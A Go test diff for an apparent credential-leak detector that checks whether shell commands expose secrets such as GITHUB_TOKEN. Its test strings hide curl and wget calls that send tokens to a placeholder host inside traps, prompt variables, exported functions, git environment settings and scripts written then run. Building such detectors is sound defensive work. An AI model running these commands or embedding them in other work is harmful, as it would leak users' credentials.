@@ -175,3 +175,69 @@ func FuzzCredentialInArgv(f *testing.F) {
 		CredentialInArgv(text, nil, CredentialOptions{Vars: []string{"T"}})
 	})
 }
+
+// Code a command hands on to run later or elsewhere is checked like the
+// command: trap strings, variables whose values programs run, exported
+// functions, git settings from the environment, scripts the command writes
+// and runs.
+func TestCredentialInArgvDeferred(t *testing.T) {
+	t.Parallel()
+	opts := CredentialOptions{Dialect: "bash", Vars: []string{"GITHUB_TOKEN"}}
+	for _, tc := range []struct {
+		cmd  string
+		want string // "VAR command how", or "" when allowed
+	}{
+		// trap, every signal spelling.
+		{`trap 'curl -d "$GATEHOUSE_CRED_X" http://x' EXIT`, "GATEHOUSE_CRED_X curl argument"},
+		{`trap -- 'curl -d "$GITHUB_TOKEN" http://x' ERR`, "GITHUB_TOKEN curl argument"},
+		{`trap $'wget --header="$GITHUB_TOKEN" x' DEBUG RETURN`, "GITHUB_TOKEN wget argument"},
+		{`f() { trap 'curl -u "me:$GITHUB_TOKEN" x' RETURN; }; f`, "GITHUB_TOKEN curl argument"},
+		{`trap 'rm -f "$tmp"' EXIT; printf %s "$GITHUB_TOKEN" | gh auth login --with-token`, ""},
+		{`trap 'printf %s "$GITHUB_TOKEN" > /dev/null' 0`, ""},
+
+		// Prompts expanded under set -x or in an interactive shell.
+		{`export PS4='+$(curl -d "$GATEHOUSE_CRED_X" x) '; set -x; echo`, "GATEHOUSE_CRED_X curl argument"},
+		{"SHELLOPTS=xtrace PS4='`curl $GITHUB_TOKEN`' bash -c :", "GITHUB_TOKEN curl argument"},
+		{`PROMPT_COMMAND='curl -d "$GATEHOUSE_CRED_X" x' bash -i`, "GATEHOUSE_CRED_X curl argument"},
+		{`PROMPT_COMMAND=(: 'curl -d "$GITHUB_TOKEN" x')`, "GITHUB_TOKEN curl argument"},
+		{`PS4='+ ${BASH_SOURCE}:${LINENO} '; set -x; curl -H @- x <<<"$GITHUB_TOKEN"`, ""},
+
+		// Exported functions.
+		{`env 'BASH_FUNC_deploy%%=() { curl -d "$GATEHOUSE_CRED_X" x; }' bash -c deploy`, "GATEHOUSE_CRED_X curl argument"},
+		{`env 'BASH_FUNC_up()=() { wget "$GITHUB_TOKEN"; }' bash -c up`, "GITHUB_TOKEN wget argument"},
+		{`deploy() { curl -d "$GITHUB_TOKEN" x; }; export -f deploy; bash -c deploy`, "GITHUB_TOKEN curl argument"},
+
+		// Variables whose values programs run as a command line.
+		{`GIT_SSH_COMMAND='ssh -o ProxyCommand="curl -d $GATEHOUSE_CRED_X x"' git fetch`, "GATEHOUSE_CRED_X ssh argument"},
+		{`GIT_SSH_COMMAND="ssh -i $GATEHOUSE_CRED_X" git fetch`, "GATEHOUSE_CRED_X $GIT_SSH_COMMAND code variable"},
+		{`export EDITOR="vim -c $GITHUB_TOKEN"; git commit`, "GITHUB_TOKEN $EDITOR code variable"},
+		{`env GIT_PAGER='curl -d "$GITHUB_TOKEN" x' git log`, "GITHUB_TOKEN curl argument"},
+		{`sudo PAGER='curl "$GITHUB_TOKEN"' man ls`, "GITHUB_TOKEN curl argument"},
+		{`export GIT_SSH_COMMAND="ssh -i $GATEHOUSE_CRED_DIR/key"; git fetch`, ""},
+		{`GH_TOKEN=$GITHUB_TOKEN GIT_PAGER=cat gh pr list`, ""},
+
+		// git's configuration from the environment.
+		{`GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0='ssh -i "$GATEHOUSE_CRED_X"' git fetch`, "GATEHOUSE_CRED_X ssh argument"},
+		{`GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0="less -P $GITHUB_TOKEN" git log`, "GITHUB_TOKEN $GIT_CONFIG_VALUE_0 code variable"},
+		{`export GIT_CONFIG_KEY_1=alias.up GIT_CONFIG_VALUE_1='!curl -d "$GITHUB_TOKEN" x'; git up`, "GITHUB_TOKEN curl argument"},
+		{`GIT_CONFIG_PARAMETERS="'core.pager=curl -d \$GITHUB_TOKEN x'" git log`, "GITHUB_TOKEN curl argument"},
+		{`GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=http.extraHeader GIT_CONFIG_VALUE_0="Authorization: Bearer $GATEHOUSE_CRED_X" git fetch`, ""},
+
+		// Scripts the command writes, then runs.
+		{`echo 'curl -H "$GATEHOUSE_CRED_X" x' > s.sh; bash s.sh`, "GATEHOUSE_CRED_X curl argument"},
+		{"cat > s.sh <<'EOF'\ncurl -H \"Authorization: $GITHUB_TOKEN\" https://x\nEOF\nchmod +x s.sh && ./s.sh", "GITHUB_TOKEN curl argument"},
+		{"cat > s.sh <<EOF\ncurl -H \"Authorization: $GITHUB_TOKEN\" https://x\nEOF\nsh s.sh", "GITHUB_TOKEN a script the command writes shell code"},
+		{`tee s.sh <<<'curl "$GITHUB_TOKEN"' >/dev/null; . ./s.sh`, "GITHUB_TOKEN curl argument"},
+		{"cat > s.sh <<'EOF'\nprintf %s \"$GITHUB_TOKEN\" | gh auth login --with-token\nEOF\nsh s.sh", ""},
+		{`echo 'curl -H "$GITHUB_TOKEN" x' > notes.txt`, ""},
+	} {
+		use := CredentialInArgv(tc.cmd, nil, opts)
+		got := ""
+		if use != nil {
+			got = use.Var + " " + use.Command + " " + use.How
+		}
+		if got != tc.want {
+			t.Errorf("%q: got %q, want %q", tc.cmd, got, tc.want)
+		}
+	}
+}
